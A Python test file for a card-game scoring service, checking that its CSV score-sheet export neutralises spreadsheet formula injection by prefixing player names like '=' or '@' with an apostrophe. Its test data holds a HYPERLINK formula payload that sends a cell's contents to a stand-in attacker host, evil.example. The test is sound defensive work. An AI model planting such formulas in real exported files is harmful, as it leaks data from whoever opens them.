"""The score sheet's CSV opens in a spreadsheet as text (issue 14 item 9): a player named
``=HYPERLINK(...)`` (or starting ``+``, ``-``, ``@``, a tab or a carriage return) is exported
with a leading apostrophe, never as a formula; numbers stay numbers. Real app, SQLite and
PostgreSQL, a scored hand."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from svc_helpers import ORGANISER, base_hand_events

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"win")', "+1+1", "-2+3", "@SUM(A1)"]


def test_formula_names_export_as_text(client: TestClient) -> None:
    body = {"game": "clabber", "name": "=1+1", "players": FORMULAS}
    made = client.post("/api/tables", json=body, headers=ORGANISER)
    assert made.status_code == 201, made.text
    table, token = made.json()["id"], made.json()["scorer_token"]
    for event in base_hand_events():
        r = client.post(
            f"/api/tables/{table}/events",
            json=event,
            headers={"Authorization": f"Bearer {token}"},
        )
        assert r.status_code == 200, r.text
    sheet = client.get(f"/api/tables/{table}/export", params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(sheet)))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], rows
    assert not [c for c in cells if c[:1] == "-" and not c.lstrip("-").isdigit()], rows
    assert rows[1][3] == "'@SUM(A1)"  # the dealer's name, as text
    assert any("=HYPERLINK(" in c for c in rows[0])  # the sides' names, inside their labels
    assert rows[1][4:6] == ["128", "104"]  # the scores, still numbers
